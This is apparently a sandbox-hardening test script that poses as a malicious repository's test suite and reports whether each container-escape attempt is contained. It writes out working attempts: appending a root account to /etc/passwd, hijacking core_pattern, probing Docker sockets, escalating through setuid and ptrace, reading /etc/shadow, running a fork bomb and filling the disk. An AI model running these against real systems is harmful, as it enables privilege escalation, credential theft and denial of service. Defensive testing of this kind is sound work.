"""A malicious repository's "test suite": it tries to break out of its task container.

Standard library only (it runs inside the sandbox image as uid 10001). Every attempt prints
one line ``ATTEMPT <kind>/<name> contained|ESCAPED: <detail>``; an attempt that kills its
own process (filling /workspace, where the exec wrapper stops the whole command) prints
``ATTEMPT <kind>/<name> started`` first, and the test judges it from the outside.

    python3 hostile_suite.py [--canary PATH] [--project-root PATH] KIND...

Kinds: network, files, docker, privilege, tmp, memory, processes, workspace, inodes,
escapee. The suite exits 1 when it ran to its end (a test suite that "fails"), so the
verification of a task whose test command it is never passes.
"""

from __future__ import annotations

import argparse
import contextlib
import ctypes
import errno
import os
import select
import shutil
import signal
import socket
import subprocess
import sys
import time

MIB = 1024 * 1024
OUR_UID = os.getuid()


def report(name: str, contained: bool, detail: str) -> None:
    word = "contained" if contained else "ESCAPED"
    print(f"ATTEMPT {name} {word}: {detail}", flush=True)


def attempt(name: str, action, *, expect=(OSError,)) -> None:
    """Run ``action``; contained when it raises one of ``expect`` (or returns a refusal)."""
    try:
        outcome = action()
    except expect as exc:
        report(name, True, f"{type(exc).__name__}: {exc}")
        return
    except Exception as exc:  # the attempt failed in an unexpected way: still not an escape
        report(name, True, f"{type(exc).__name__}: {exc}")
        return
    if isinstance(outcome, tuple):
        contained, detail = outcome
        report(name, contained, detail)
    else:
        report(name, False, f"succeeded: {outcome!r}"[:300])


# ---------------------------------------------------------------------------------- network
def tcp(host: str, port: int):
    def go():
        with socket.create_connection((host, port), timeout=3) as conn:
            return f"connected to {conn.getpeername()}"

    return go


def network(args) -> None:
    for host, port in (("1.1.1.1", 53), ("127.0.0.1", 55432), ("127.0.0.1", 56379),
                       ("172.17.0.1", 55432), ("10.0.2.2", 55432)):
        attempt(f"network/tcp-{host}:{port}", tcp(host, port))
    attempt("network/dns", lambda: socket.getaddrinfo("example.com", 443))
    attempt("network/dns-host-gateway", lambda: socket.getaddrinfo("host.docker.internal", 80))

    def udp():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(b"\x00" * 12, ("1.1.1.1", 53))
            s.settimeout(2)
            return s.recv(512)

    attempt("network/udp-dns-1.1.1.1", udp, expect=(OSError, TimeoutError))

    def interfaces():
        names = sorted(os.listdir("/sys/class/net"))
        return (names == ["lo"], f"interfaces: {names}")

    attempt("network/interfaces", interfaces)


# ------------------------------------------------------------------------------- host files
def read(path: str):
    def go():
        with open(path, "rb") as handle:
            return handle.read(200)

    return go


def listing(path: str):
    def go():
        return os.listdir(path)

    return go


def files(args) -> None:
    if args.canary:
        attempt("files/host-canary", read(args.canary))
        attempt("files/host-canary-via-proc-1-root", read("/proc/1/root" + args.canary))

        def canary_dir():
            names = os.listdir(os.path.dirname(args.canary))
            return (os.path.basename(args.canary) not in names, f"listed: {names[:5]}")

        attempt("files/host-canary-dir", canary_dir)
    root = args.project_root
    attempt("files/host-project", listing(root))
    attempt("files/host-project-security-md", read(os.path.join(root, "SECURITY.md")))
    attempt("files/host-project-via-proc-1-root", listing("/proc/1/root" + root))
    attempt("files/host-settings", read(os.path.join(root, "src/runner/settings.py")))
    attempt("files/etc-shadow", read("/etc/shadow"))

    def proc_root():
        # /proc/1/root is the container's own root (PID 1 is the container's init), so what
        # it shows must be the sandbox's filesystem, never the host's.
        names = set(os.listdir("/proc/1/root"))
        host_only = {"work"} & names
        return (not host_only and "workspace" in names,
                f"/proc/1/root is the container's root: {sorted(names)[:8]}...")

    attempt("files/proc-1-root", proc_root)

    def other_workspaces():
        found = []
        for top in ("/", "/var/lib", "/work"):
            with contextlib.suppress(OSError):
                found += [os.path.join(top, n) for n in os.listdir(top) if "workspaces" in n]
        return (not found, f"other customers' workspaces visible: {found}")

    attempt("files/other-customers", other_workspaces)


# ------------------------------------------------------------------------------ docker API
def unix(path: str):
    def go():
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.settimeout(3)
            s.connect(path)
            s.sendall(b"GET /version HTTP/1.0\r\n\r\n")
            return s.recv(200)

    return go


def docker(args) -> None:
    for path in ("/var/run/docker.sock", "/run/docker.sock",
                 "/run/containerd/containerd.sock",
                 os.path.join(args.project_root, ".devteam/docker/docker.sock"),
                 "/proc/1/root/var/run/docker.sock"):
        attempt(f"docker/socket-{path}", unix(path))
    for port in (2375, 2376):
        attempt(f"docker/tcp-127.0.0.1:{port}", tcp("127.0.0.1", port))

    def abstract_sockets():
        with open("/proc/net/unix") as handle:
            rows = handle.read().splitlines()[1:]
        engine = [r for r in rows if "docker" in r or "containerd" in r]
        return (not engine, f"{len(rows)} unix sockets visible, engine sockets: {engine[:3]}")

    attempt("docker/abstract-sockets", abstract_sockets)


# -------------------------------------------------------------------------- privileges
LIBC = ctypes.CDLL(None, use_errno=True)


def syscall_refused(name: str, call) -> tuple[bool, str]:
    result = call()
    err = ctypes.get_errno()
    return (result != 0, f"{name} returned {result} ({os.strerror(err)})")


def status_of(pid: str) -> dict[str, str]:
    with open(f"/proc/{pid}/status") as handle:
        return dict(line.split(":", 1) for line in handle.read().splitlines() if ":" in line)


def privilege(args) -> None:
    attempt("privilege/setuid-0", lambda: os.setuid(0))
    attempt("privilege/setgid-0", lambda: os.setgid(0))
    attempt("privilege/seteuid-0", lambda: os.seteuid(0))

    def sudo():
        path = shutil.which("sudo")
        if path is None:
            return (True, "sudo is not installed")
        done = subprocess.run([path, "-n", "id", "-u"], capture_output=True, text=True,
                              timeout=10, check=False)
        return (done.stdout.strip() != "0", f"sudo -n id -u: exit {done.returncode}")

    attempt("privilege/sudo", sudo)

    def su():
        path = shutil.which("su")
        if path is None:
            return (True, "su is not installed")
        done = subprocess.run([path, "-c", "id -u", "root"], stdin=subprocess.DEVNULL,
                              capture_output=True, text=True, timeout=10, check=False)
        return (done.stdout.strip() != "0",
                f"su -c 'id -u' root: exit {done.returncode} {done.stderr.strip()[:80]}")

    attempt("privilege/su", su)

    def setuid_binaries():
        # no-new-privileges: a set-uid binary runs with the caller's uid, never root's.
        status = status_of("self")
        return (status["NoNewPrivs"].strip() == "1" and int(status["CapBnd"], 16) == 0,
                f"NoNewPrivs {status['NoNewPrivs'].strip()}, CapBnd {status['CapBnd'].strip()}")

    attempt("privilege/setuid-binaries", setuid_binaries)

    def write_passwd():
        with open("/etc/passwd", "a") as handle:
            handle.write("evil:x:0:0::/root:/bin/sh\n")
        return "appended to /etc/passwd"

    attempt("privilege/write-etc-passwd", write_passwd)
    attempt("privilege/write-core-pattern", lambda: open(  # noqa: SIM115
        "/proc/sys/kernel/core_pattern", "w").write("|/tmp/evil"))
    attempt("privilege/cgroup-release-agent", lambda: open(  # noqa: SIM115
        "/sys/fs/cgroup/memory/notify_on_release", "w").write("1"))
    os.makedirs("/tmp/mnt", exist_ok=True)
    attempt("privilege/mount-syscall", lambda: syscall_refused(
        "mount", lambda: LIBC.mount(b"none", b"/tmp/mnt", b"tmpfs", 0, None)))

    def mount_command():
        done = subprocess.run(["mount", "-t", "tmpfs", "none", "/tmp/mnt"],
                              capture_output=True, text=True, timeout=10, check=False)
        return (done.returncode != 0, f"mount: exit {done.returncode}")

    attempt("privilege/mount-command", mount_command)
    attempt("privilege/chroot", lambda: os.chroot("/tmp"))
    attempt("privilege/unshare-user-namespace", lambda: syscall_refused(
        "unshare(CLONE_NEWUSER)", lambda: LIBC.unshare(0x10000000)))
    attempt("privilege/mknod-block-device", lambda: os.mknod(
        "/tmp/sda", 0o600 | 0o060000, os.makedev(8, 0)))
    attempt("privilege/raw-socket", lambda: socket.socket(
        socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))

    def ptrace():
        # Everything the sandbox can see runs as its own user without capabilities, so
        # tracing gains nothing; any process with more privilege would be a target.
        targets, seen = [], 0
        for pid in filter(str.isdigit, os.listdir("/proc")):
            with contextlib.suppress(OSError, KeyError, ValueError):
                status = status_of(pid)
                seen += 1
                uid = int(status["Uid"].split()[1])
                if uid != OUR_UID or int(status["CapEff"], 16) != 0:
                    targets.append(pid)
        gained = []
        for pid in targets:
            if LIBC.ptrace(16, int(pid), 0, 0) == 0:  # PTRACE_ATTACH
                gained.append(pid)
                LIBC.ptrace(17, int(pid), 0, 0)  # PTRACE_DETACH
        init = status_of("1")
        detail = (f"{seen} processes visible, {len(targets)} more privileged, attached to "
                  f"{gained}; pid 1 runs as uid {init['Uid'].split()[1]} with CapEff "
                  f"{init['CapEff'].strip()}")
        return (not gained and int(init["CapEff"], 16) == 0, detail)

    attempt("privilege/ptrace", ptrace)


# ------------------------------------------------------------------------------ resources
def limit_of(*paths: str) -> int | None:
    for path in paths:
        with contextlib.suppress(OSError, ValueError):
            with open(path) as handle:
                text = handle.read().strip()
            if text != "max":
                return int(text)
    return None


def tmp(args) -> None:
    def fill():
        written = 0
        try:
            with open("/tmp/fill", "wb") as handle:
                while written < 64 * 1024 * MIB:
                    handle.write(b"\x01" * (4 * MIB))
                    handle.flush()
                    written += 4 * MIB
        except OSError as exc:
            return (exc.errno in (errno.ENOSPC, errno.EFBIG),
                    f"{os.strerror(exc.errno or 0)} after {written // MIB} MiB")
        finally:
            with contextlib.suppress(OSError):
                os.remove("/tmp/fill")
        return (False, f"wrote {written // MIB} MiB to /tmp")

    # In a child: if the tmpfs pages hit the memory limit first, the OOM killer takes it.
    run_child("disk/tmp", fill, killed_means="killed by the memory limit while filling /tmp")


def run_child(name: str, action, *, killed_means: str) -> None:
    """Run ``action`` in a forked child and report its verdict (or how it died).

    The verdict comes back through a pipe, but the child's own exit decides when to stop
    waiting: its descendants inherit the pipe's write end, and one the child could not
    kill (it was killed first) must not keep this process waiting for an end of file.
    """
    read_end, write_end = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(read_end)
        try:
            contained, detail = action()
        except Exception as exc:  # noqa: BLE001
            contained, detail = True, f"{type(exc).__name__}: {exc}"
        os.write(write_end, f"{int(contained)}{detail}".encode()[:4000])
        os._exit(0)
    os.close(write_end)
    chunks = []
    status = None
    while status is None:
        ready, _, _ = select.select([read_end], [], [], 0.2)
        if ready:
            chunk = os.read(read_end, 4096)
            if chunk:
                chunks.append(chunk)
                continue
        done, code = os.waitpid(pid, os.WNOHANG)
        if done:
            status = code
        elif ready:  # end of file: every writer is gone
            status = os.waitpid(pid, 0)[1]
    os.set_blocking(read_end, False)
    with contextlib.suppress(OSError):
        while chunk := os.read(read_end, 4096):
            chunks.append(chunk)
    os.close(read_end)
    text = b"".join(chunks).decode(errors="replace")
    if text:
        report(name, text[0] == "1", text[1:])
    elif os.WIFSIGNALED(status):
        report(name, True, f"{killed_means} (signal {os.WTERMSIG(status)})")
    else:
        report(name, False, f"child ended without a verdict (status {status})")


def set_oom_score_adj(value: int) -> None:
    """Make this process a more (1000) or less (0) likely victim of the OOM killer.

    The exec wrapper starts commands at 1000; going back down to 0, the value the
    container started with, needs no privilege."""
    with contextlib.suppress(OSError), open("/proc/self/oom_score_adj", "w") as handle:
        handle.write(str(value))


def memory(args) -> None:
    limit = limit_of("/sys/fs/cgroup/memory/memory.limit_in_bytes", "/sys/fs/cgroup/memory.max")
    target = 10 * (limit or 2048 * MIB)

    def allocate():
        chunks, total = [], 0
        while total < target:
            chunks.append(b"\x01" * (32 * MIB))  # touched pages, not a lazy calloc
            total += 32 * MIB
        return (False, f"allocated {total // MIB} MiB, 10x the limit")

    run_child("memory/allocate-10x-limit", allocate,
              killed_means=f"killed before 10x the {(limit or 0) // MIB} MiB limit")


def processes(args) -> None:
    """Fork until the kernel refuses, then kill every child.

    Each child becomes ``sleep`` at once (exec), so the bomb holds processes, not memory:
    children that stayed Python would each keep copied pages, and a bomb that runs into
    the memory limit before the process limit meets the OOM killer, which in a cgroup of
    equal-scored processes may take this suite itself (its report line then never comes).
    The bomb and the suite score 0, the children 1000, so it is always a child that goes.
    """
    limit = limit_of("/sys/fs/cgroup/pids/pids.max", "/sys/fs/cgroup/pids.max") or 10_000
    sleep = shutil.which("sleep") or "/bin/sleep"

    def bomb():
        set_oom_score_adj(0)
        children = []
        refused = None
        try:
            while len(children) < 10 * limit:
                pid = os.fork()
                if pid == 0:
                    try:
                        set_oom_score_adj(1000)
                        os.execv(sleep, [sleep, "120"])
                    finally:
                        os._exit(127)
                children.append(pid)
        except OSError as exc:
            refused = exc
        memory = limit_of("/sys/fs/cgroup/memory/memory.usage_in_bytes",
                          "/sys/fs/cgroup/memory.current")
        for pid in children:
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGKILL)
        for pid in children:
            with contextlib.suppress(OSError):
                os.waitpid(pid, 0)
        if refused is None:
            return (False, f"forked {len(children)} processes, 10x the {limit} limit")
        held = f", {memory // MIB} MiB in use" if memory else ""
        detail = (f"fork refused ({refused.strerror}) after {len(children)} of a {limit} "
                  f"limit{held}")
        return (len(children) < limit, detail)

    set_oom_score_adj(0)
    run_child("processes/fork-bomb", bomb, killed_means="killed while forking")


def workspace(args) -> None:
    """Fill /workspace with 16 MiB files until something stops it (the wrapper kills us)."""

    def file_size_cap():
        # One file may not grow past the quota, however fast it is written (RLIMIT_FSIZE);
        # growing a sparse file shows the cap without using the disk.
        with open("/workspace/one-huge-file", "wb") as handle:
            handle.truncate(1024 * 1024 * MIB)
        return "made a 1 TiB file"

    attempt("disk/workspace-file-size-cap", file_size_cap)
    with contextlib.suppress(OSError):
        os.remove("/workspace/one-huge-file")
    print("ATTEMPT disk/workspace started", flush=True)
    n = 0
    while n < 4096:
        try:
            with open(f"/workspace/fill-{n}", "wb") as handle:
                handle.write(b"\x03" * (16 * MIB))
        except OSError as exc:
            print(f"write refused after {n} files: {exc}", flush=True)
            break
        n += 1
    report("disk/workspace", False, f"wrote {n * 16} MiB to /workspace and was not stopped")


def inodes(args) -> None:
    """A million empty files: no bytes, but inodes on the host's disk."""
    print("ATTEMPT disk/inodes started", flush=True)
    os.makedirs("/workspace/inodes", exist_ok=True)
    for i in range(1_000_000):
        with open(f"/workspace/inodes/{i}", "wb"):
            pass
    report("disk/inodes", False, "made a million files and was not stopped")


def escapee(args) -> None:
    """Leave the process group (setsid) and fill /workspace from there."""
    print("ATTEMPT disk/escapee started", flush=True)
    pid = os.fork()
    if pid == 0:
        os.setsid()
        if os.fork():
            os._exit(0)
        n = 0
        while True:
            with contextlib.suppress(OSError), open(f"/workspace/escaped-{n}", "wb") as handle:
                handle.write(b"\x04" * (8 * MIB))
            n += 1
    os.waitpid(pid, 0)
    time.sleep(120)
    report("disk/escapee", False, "the escaped writer was never stopped")


KINDS = {
    "network": network, "files": files, "docker": docker, "privilege": privilege,
    "tmp": tmp, "memory": memory, "processes": processes, "workspace": workspace,
    "inodes": inodes, "escapee": escapee,
}


def main() -> int:
    parser = argparse.ArgumentParser()
    parser.add_argument("--canary", default="")
    parser.add_argument("--project-root", default="/work/main")
    parser.add_argument("kinds", nargs="+", choices=sorted(KINDS))
    args = parser.parse_args()
    print(f"hostile suite as uid {OUR_UID}: {' '.join(args.kinds)}", flush=True)
    for kind in args.kinds:
        KINDS[kind](args)
    print("SUITE DONE", flush=True)
    return 1


if __name__ == "__main__":
    sys.exit(main())
